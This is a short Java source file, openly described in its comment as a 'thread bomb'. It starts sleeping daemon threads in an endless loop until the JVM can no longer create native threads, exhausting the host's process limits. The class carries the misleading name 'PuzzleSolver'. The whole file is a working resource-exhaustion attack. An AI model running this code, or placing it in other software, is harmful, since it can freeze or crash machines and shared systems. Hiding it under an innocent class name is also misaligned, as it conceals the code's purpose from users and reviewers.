// Thread bomb (Java): daemon threads until the JVM cannot start one more. The JVM
// then reports "OutOfMemoryError: unable to create native thread", which is the
// process limit speaking, not memory.
public class PuzzleSolver {
    public static void main(String[] args) {
        while (true) {
            Thread t = new Thread(() -> {
                try { Thread.sleep(Long.MAX_VALUE); } catch (InterruptedException e) { }
            });
            t.setDaemon(true);
            t.start();
        }
    }
}
